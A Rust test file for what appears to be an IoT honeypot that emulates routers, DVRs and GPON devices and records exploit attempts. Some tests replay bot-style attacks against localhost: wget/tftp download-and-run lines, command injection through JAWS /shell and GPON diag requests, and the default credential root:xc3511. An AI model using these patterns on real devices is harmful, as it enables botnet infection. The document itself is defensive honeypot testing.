//! The HTTP door without sockets: every exploit of the table, sent as a bot sends
//! it, runs its command line on the device and gets its endpoint's answer; the
//! server's own pages and limits; and the device is the one the telnet door shows.

#![allow(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic
)]

use std::sync::Arc;
use std::time::{Duration, Instant, UNIX_EPOCH};

use busybait_device::auth::AuthMode;
use busybait_device::clock::Now;
use busybait_device::profile::{DownloadTool, Profile};
use busybait_device::shell::FetchResult;
use busybait_events::{EventKind, Peer, Protocol, SessionId};
use busybait_http::session::{HttpConfig, Session};
use busybait_http::HttpLimits;
use busybait_intel::exploits::Table;

fn device(profile: &str) -> Arc<busybait_device::terminal::SessionConfig> {
    // Downloads go to the edge (here: the test, which answers them).
    let shell = busybait_device::shell::ShellConfig {
        fetch: true,
        ..Default::default()
    };
    let limits = busybait_device::terminal::Limits::default();
    Arc::new(
        busybait_device::terminal::SessionConfig::builtin(profile, AuthMode::Sticky, shell, limits)
            .unwrap(),
    )
}

fn config(profile: &str) -> Arc<HttpConfig> {
    Arc::new(HttpConfig::new(
        device(profile),
        Arc::new(Table::builtin()),
        HttpLimits::default(),
        UNIX_EPOCH + Duration::from_secs(1_794_990_000),
    ))
}

fn at() -> Now {
    Now {
        mono: Instant::now(),
        wall: UNIX_EPOCH + Duration::from_secs(1_795_000_000),
    }
}

/// One connection, driven as the edge drives it; downloads answered with `fetched`.
struct Exchange {
    out: Vec<u8>,
    events: Vec<EventKind>,
    fetched: Vec<String>,
    samples: Vec<(Vec<u8>, Vec<u8>)>,
}

fn exchange(config: &Arc<HttpConfig>, port: u16, request: &[u8], fetched: &[u8]) -> Exchange {
    let now = at();
    let peer = Peer {
        src: "127.0.0.9:40000".parse().unwrap(),
        dst: format!("127.0.0.1:{port}").parse().unwrap(),
        protocol: Protocol::Http,
    };
    let mut s = Session::new(config.clone(), SessionId::from_u64(0x77), peer, now);
    s.handle_input(now, request);
    let mut fetched_urls = Vec::new();
    let mut rounds = 0;
    while !s.is_closed() {
        rounds += 1;
        assert!(rounds < 10_000, "the session never answered");
        while let Some((id, req)) = s.poll_fetch() {
            fetched_urls.push(req.url);
            s.handle_fetch_result(now, id, FetchResult::Data(fetched.to_vec()));
        }
        if s.is_computing() {
            s.handle_timeout(now);
        } else if !s.is_closed() {
            let t = s.poll_timeout().unwrap();
            s.handle_timeout(Now {
                mono: t,
                wall: now.wall,
            });
        }
    }
    let mut out = Vec::new();
    s.poll_transmit(&mut out);
    let events = std::iter::from_fn(|| s.poll_event())
        .map(|e| e.kind)
        .collect();
    let samples = std::iter::from_fn(|| s.poll_sample())
        .map(|f| (f.path, f.data.as_ref().clone()))
        .collect();
    Exchange {
        out,
        events,
        fetched: fetched_urls,
        samples,
    }
}

fn ids(events: &[EventKind]) -> Vec<&'static str> {
    events.iter().map(EventKind::event_id).collect()
}

/// The response split into its head (without `Date:`) and body.
fn split(out: &[u8]) -> (String, String) {
    let text = String::from_utf8_lossy(out).into_owned();
    let (head, body) = text.split_once("\r\n\r\n").unwrap();
    let head: Vec<&str> = head
        .split("\r\n")
        .filter(|l| !l.starts_with("Date: "))
        .collect();
    (head.join("\n"), body.to_string())
}

#[test]
fn jaws_shell_runs_the_query_and_answers_with_its_output() {
    let config = config("xiongmai-dvr");
    let x = exchange(
        &config,
        80,
        b"GET /shell?cd+/var;echo+hello%20there>greeting;cat+greeting;ls+/nowhere HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Hello, world\r\n\r\n",
        b"",
    );
    let (head, body) = split(&x.out);
    assert_eq!(
        body, "hello there\n",
        "stdout is the page; stderr goes to the server's log"
    );
    assert_eq!(
        head,
        "HTTP/1.1 200 OK\nServer: JAWS/1.0\nConnection: close\nContent-type: text/html\nContent-Length: 12"
    );
    assert_eq!(
        ids(&x.events),
        [
            "cowrie.session.connect",
            "busybait.exploit",
            "cowrie.command.input",
            "busybait.http.request",
            "busybait.session.end",
            "cowrie.session.closed"
        ]
    );
    let EventKind::Exploit { name, command, .. } = &x.events[1] else {
        panic!()
    };
    assert_eq!(name, "jaws-shell");
    assert_eq!(
        command,
        "cd /var;echo hello there>greeting;cat greeting;ls /nowhere"
    );
    let EventKind::HttpRequest {
        method,
        path,
        headers,
        status,
        ..
    } = &x.events[3]
    else {
        panic!()
    };
    assert_eq!(
        (method.as_str(), path.as_str(), *status),
        ("GET", "/shell", 200)
    );
    assert_eq!(
        headers[1],
        ("User-Agent".to_string(), "Hello, world".to_string())
    );
    // The file it wrote is a sample.
    assert_eq!(
        x.samples,
        [(b"/var/greeting".to_vec(), b"hello there\n".to_vec())]
    );
}

#[test]
fn every_exploit_of_the_table_runs_its_downloader_on_a_profile_that_exposes_it() {
    let table = Table::builtin();
    let profiles: Vec<Profile> = Profile::builtin().unwrap();
    let mut covered = Vec::new();
    for entry in &table.entries {
        let profile = profiles
            .iter()
            .find(|p| {
                p.http
                    .as_ref()
                    .is_some_and(|h| h.exploits.contains(&entry.name))
            })
            .unwrap_or_else(|| panic!("no profile exposes {}", entry.name));
        let config = config(&profile.name);
        // A downloader with the tool the device has, into a writable directory.
        let script = format!("{}.sh", entry.name);
        let dir = if profile.mounts.contains("tmpfs /tmp ") {
            "/tmp"
        } else {
            "/var"
        };
        let cmd = if profile.download_tools.contains(&DownloadTool::Wget) {
            format!(
                "cd {dir}; wget http://127.0.0.1:8000/{script}; chmod 777 {script}; sh {script}"
            )
        } else {
            format!("cd {dir}; tftp -g -r {script} 127.0.0.1; chmod 777 {script}; sh {script}")
        };
        let (port, request) = busybait_pcapgen::exploits::request(&entry.name, &cmd);
        let x = exchange(&config, port, &request, b"echo dropped\n");
        let name = &entry.name;
        let exploit = x.events.iter().find_map(|e| match e {
            EventKind::Exploit { name, urls, .. } => Some((name.clone(), urls.clone())),
            _ => None,
        });
        let urls = busybait_intel::triage::urls(cmd.as_bytes());
        assert_eq!(urls.len(), 1, "{cmd}");
        assert_eq!(exploit, Some((name.clone(), urls)), "{name}");
        // Once, or twice where the shape repeats the command (GPON's `cmd`;cmd).
        assert!(
            !x.fetched.is_empty() && x.fetched.iter().all(|u| *u == x.fetched[0]),
            "{name}: fetched {:?} {:?}",
            x.fetched,
            ids(&x.events)
        );
        let url = &x.fetched[0];
        assert!(
            url.ends_with(&format!(
                "127.0.0.1:{}/{script}",
                if url.starts_with("tftp") { 69 } else { 8000 }
            )),
            "{url}"
        );
        assert!(
            x.events
                .iter()
                .any(|e| matches!(e, EventKind::DownloadRequest { url: u, .. } if u == url)),
            "{name}: {:?}",
            ids(&x.events)
        );
        assert!(
            x.samples.iter().any(
                |(path, data)| *path == format!("{dir}/{script}").into_bytes()
                    && data == b"echo dropped\n"
            ),
            "{name}: samples {:?}",
            x.samples
                .iter()
                .map(|(p, _)| String::from_utf8_lossy(p))
                .collect::<Vec<_>>()
        );
        let (head, body) = split(&x.out);
        let status: u16 = head[9..12].parse().unwrap();
        assert_eq!(status, entry.response.status, "{name}");
        if !entry.response.body.contains("{output}") {
            assert_eq!(body, entry.response.body, "{name}");
        }
        if let Some(server) = &entry.response.server {
            assert!(
                head.contains(&format!("\nServer: {server}\n")),
                "{name}: {head}"
            );
        }
        covered.push(name.clone());
    }
    assert_eq!(covered.len(), table.entries.len());
}

#[test]
fn an_exploit_on_another_port_of_the_device_is_not_there() {
    // The HG532 endpoint is on 37215; on the gateway's port 80 it does not exist: a
    // POST there is BusyBox's 501.
    let config = config("gateway-hg532");
    let (_, request) = busybait_pcapgen::exploits::request("huawei-hg532-upgrade", "id");
    let x = exchange(&config, 80, &request, b"");
    assert!(
        x.out.starts_with(b"HTTP/1.1 501 Not Implemented\r\n"),
        "{}",
        String::from_utf8_lossy(&x.out)
    );
    assert!(!ids(&x.events).contains(&"busybait.exploit"));
    // On a port no entry names (an operator's remap), every entry of the profile is
    // served.
    let x = exchange(&config, 18080, &request, b"");
    assert!(ids(&x.events).contains(&"busybait.exploit"));
}

#[test]
fn basic_authentication_uses_the_device_credentials() {
    let config = config("router-mips");
    let x = exchange(&config, 80, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"");
    let (head, body) = split(&x.out);
    assert_eq!(
        head,
        "HTTP/1.1 401 Unauthorized\nConnection: close\nContent-type: text/html\nWWW-Authenticate: Basic realm=\"TP-LINK Wireless N Router WR841N\""
    );
    assert_eq!(body, "<HTML><HEAD><TITLE>401 Unauthorized</TITLE></HEAD>\n<BODY><H1>401 Unauthorized</H1>\n\n</BODY></HTML>\n");
    // root:xc3511, base64.
    let x = exchange(
        &config,
        80,
        b"GET / HTTP/1.1\r\nAuthorization: Basic cm9vdDp4YzM1MTE=\r\n\r\n",
        b"",
    );
    assert!(x.out.starts_with(b"HTTP/1.1 200 OK\r\n"));
    assert!(x.events.iter().any(|e| matches!(e, EventKind::LoginSuccess { username, password } if username == "root" && password == "xc3511")));
}

#[test]
fn the_login_form_of_a_server_without_basic_authentication() {
    let config = config("xiongmai-dvr");
    let x = exchange(&config, 80, b"GET / HTTP/1.0\r\n\r\n", b"");
    let (_, body) = split(&x.out);
    assert!(
        body.contains("<title>WEB SERVICE</title>") && body.contains("action=\"/login.cgi\""),
        "{body}"
    );
    let form =
        b"POST /login.cgi HTTP/1.1\r\nContent-Length: 33\r\n\r\nusername=admin&password=wrong%21x";
    let x = exchange(&config, 80, form, b"");
    assert!(x.events.iter().any(|e| matches!(e, EventKind::LoginFailed { username, password } if username == "admin" && password == "wrong!x")));
    let x = exchange(&config, 80, b"GET /missing HTTP/1.1\r\n\r\n", b"");
    assert!(x
        .out
        .starts_with(b"HTTP/1.1 404 Not Found\r\nServer: JAWS/1.0\r\n"));
}

#[test]
fn oversized_and_slow_requests_get_their_status_and_a_limit_event() {
    let config = config("xiongmai-dvr");
    let mut big = b"GET /".to_vec();
    big.extend(std::iter::repeat_n(b'a', 9000));
    let x = exchange(&config, 80, &big, b"");
    assert!(
        x.out.starts_with(b"HTTP/1.1 431 "),
        "{}",
        String::from_utf8_lossy(&x.out[..40])
    );
    assert!(x.events.iter().any(|e| matches!(
        e,
        EventKind::LimitHit {
            limit: "http_max_head_bytes",
            value: 8192
        }
    )));
    // Half a request, then nothing: 408 at the request timeout.
    let x = exchange(&config, 80, b"GET / HTTP/1.1\r\nHost:", b"");
    assert!(x.out.starts_with(b"HTTP/1.1 408 Request Timeout\r\n"));
    assert!(x.events.iter().any(|e| matches!(
        e,
        EventKind::LimitHit {
            limit: "http_request_timeout",
            value: 30
        }
    )));
}

#[test]
fn a_file_dropped_through_the_web_server_is_there_for_the_same_source_over_telnet() {
    let config = config("xiongmai-dvr");
    exchange(
        &config,
        80,
        b"GET /shell?echo+payload>/var/dropped HTTP/1.1\r\n\r\n",
        b"",
    );
    let now = at();
    let peer = Peer {
        src: "127.0.0.9:40001".parse().unwrap(),
        dst: "127.0.0.1:23".parse().unwrap(),
        protocol: Protocol::Telnet,
    };
    let attach = busybait_device::terminal::Attach {
        pty: false,
        width: 0,
        height: 0,
        command: Some(b"cat /var/dropped".to_vec()),
    };
    let mut shell = busybait_device::terminal::Terminal::attached(
        config.device.clone(),
        SessionId::from_u64(1),
        peer,
        now,
        attach,
    );
    shell.end_of_stdin(now);
    let mut out = Vec::new();
    shell.poll_transmit(&mut out);
    assert_eq!(out, b"payload\n");
}

#[test]
fn a_pipelined_second_request_is_not_read() {
    // One request per connection: the server answers the first and closes.
    let config = config("xiongmai-dvr");
    let x = exchange(
        &config,
        80,
        b"GET /missing HTTP/1.1\r\n\r\nGET /shell?id HTTP/1.1\r\n\r\n",
        b"",
    );
    assert_eq!(
        String::from_utf8_lossy(&x.out).matches("HTTP/1.1 ").count(),
        1
    );
    assert!(x.out.starts_with(b"HTTP/1.1 404 Not Found\r\n"));
    assert!(!ids(&x.events).contains(&"busybait.exploit"));
    assert_eq!(
        ids(&x.events)
            .iter()
            .filter(|id| **id == "busybait.http.request")
            .count(),
        1
    );
}

#[test]
fn an_exploit_whose_line_never_ends_is_closed_as_idle_with_its_request_on_record() {
    let config = config("xiongmai-dvr");
    let x = exchange(
        &config,
        80,
        b"GET /shell?while+:;do+:;done HTTP/1.1\r\n\r\n",
        b"",
    );
    assert!(x.out.is_empty(), "{}", String::from_utf8_lossy(&x.out));
    let limits: Vec<&str> = x
        .events
        .iter()
        .filter_map(|e| match e {
            EventKind::LimitHit { limit, .. } => Some(*limit),
            _ => None,
        })
        .collect();
    assert_eq!(limits, ["shell_step_budget", "idle_timeout"]);
    assert!(x
        .events
        .iter()
        .any(|e| matches!(e, EventKind::HttpRequest { status: 0, path, .. } if path == "/shell")));
    assert_eq!(
        ids(&x.events)[x.events.len() - 2..],
        ["busybait.session.end", "cowrie.session.closed"]
    );
}

#[test]
fn each_device_passes_the_probe_bots_send_before_its_exploits() {
    let table = Table::builtin();
    let profiles = Profile::builtin().unwrap();
    let mut probed = Vec::new();
    for entry in &table.entries {
        let Some(probe) = &entry.probe else { continue };
        for profile in profiles.iter().filter(|p| {
            p.http
                .as_ref()
                .is_some_and(|h| h.exploits.contains(&entry.name))
        }) {
            let config = config(&profile.name);
            let request = format!("GET {} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", probe.path);
            let x = exchange(&config, entry.ports[0], request.as_bytes(), b"");
            assert!(x.out.starts_with(b"HTTP/1.1 "), "{}", entry.name);
            let (head, body) = split(&x.out);
            if let Some(text) = &probe.body {
                assert!(body.contains(text.as_str()), "{}: {body}", entry.name);
            }
            if let Some(server) = &probe.server {
                let header = head
                    .lines()
                    .find_map(|l| l.strip_prefix("Server: "))
                    .unwrap_or_default();
                assert!(header.contains(server.as_str()), "{}: {head}", entry.name);
            }
            probed.push(entry.name.as_str());
        }
    }
    // Every entry names its probe, and each has a profile that passes it.
    let names: Vec<&str> = table.entries.iter().map(|e| e.name.as_str()).collect();
    assert_eq!(probed, names);
}

#[test]
fn gpon_diag_html_shows_the_same_source_what_its_ping_printed() {
    let config = config("ont-gpon");
    let (port, request) = busybait_pcapgen::exploits::request("gpon-diag-form", "echo pwned");
    let x = exchange(&config, port, &request, b"");
    assert!(x.out.starts_with(b"HTTP/1.1 200 OK\r\n"));
    // The ping's line: `ping -c 4 `echo pwned`;echo pwned`: ping fails on the
    // name, the second command's output is the page's.
    let page = exchange(
        &config,
        port,
        b"GET /diag.html?images/ HTTP/1.1\r\n\r\n",
        b"",
    );
    let (_, body) = split(&page.out);
    assert!(
        body.contains("readonly>") && body.contains("pwned\n</textarea>"),
        "{body}"
    );
    // Another source sees no such page.
    let config_other = config.clone();
    let now = at();
    let peer = Peer {
        src: "127.0.0.10:40000".parse().unwrap(),
        dst: format!("127.0.0.1:{port}").parse().unwrap(),
        protocol: Protocol::Http,
    };
    let mut s = Session::new(config_other, SessionId::from_u64(0x78), peer, now);
    s.handle_input(now, b"GET /diag.html?images/ HTTP/1.1\r\n\r\n");
    let mut out = Vec::new();
    s.poll_transmit(&mut out);
    assert!(
        out.starts_with(b"HTTP/1.1 404 Not Found\r\n"),
        "{}",
        String::from_utf8_lossy(&out)
    );
}

#[test]
fn a_header_with_control_bytes_is_skipped_and_garbage_is_recorded_raw() {
    let config = config("xiongmai-dvr");
    // Served, as BusyBox serves it; the invalid header line is not kept.
    let x = exchange(
        &config,
        80,
        b"GET /shell?echo+hi HTTP/1.1\r\nX-Evil: \x1b]52;c;ZXZpbA==\x07\r\nHost: h\r\n\r\n",
        b"",
    );
    let (_, body) = split(&x.out);
    assert_eq!(body, "hi\n");
    let headers = x.events.iter().find_map(|e| match e {
        EventKind::HttpRequest { headers, .. } => Some(headers.clone()),
        _ => None,
    });
    assert_eq!(headers, Some(vec![("Host".to_string(), "h".to_string())]));
    // Not HTTP at all: answered 400 and kept as it came.
    let x = exchange(&config, 80, b"\x16\x03\x01\x02\x00\x01\r\n\r\n", b"");
    assert!(x.out.starts_with(b"HTTP/1.1 400 Bad Request\r\n"));
    let recorded = x.events.iter().find_map(|e| match e {
        EventKind::HttpRequest {
            method,
            body,
            body_len,
            status,
            ..
        } => Some((method.clone(), body.clone(), *body_len, *status)),
        _ => None,
    });
    assert_eq!(
        recorded,
        Some((
            String::new(),
            "\u{16}\u{3}\u{1}\u{2}\0\u{1}\r\n\r\n".to_string(),
            10,
            400
        ))
    );
}

#[test]
fn a_upnp_daemon_answers_everything_on_its_port_with_its_own_server_header() {
    // The router's miniupnpd on 52869: no pages, no login, its own Server header;
    // port 80 is the web server.
    let config = config("router-mips");
    let x = exchange(&config, 52869, b"GET /nothing HTTP/1.1\r\n\r\n", b"");
    let (head, _) = split(&x.out);
    assert!(
        head.starts_with("HTTP/1.1 404 Not Found\nServer: miniupnpd/1.0 UPnP/1.0\n"),
        "{head}"
    );
    let x = exchange(&config, 80, b"GET /nothing HTTP/1.1\r\n\r\n", b"");
    assert!(!String::from_utf8_lossy(&x.out).contains("miniupnpd"));
}
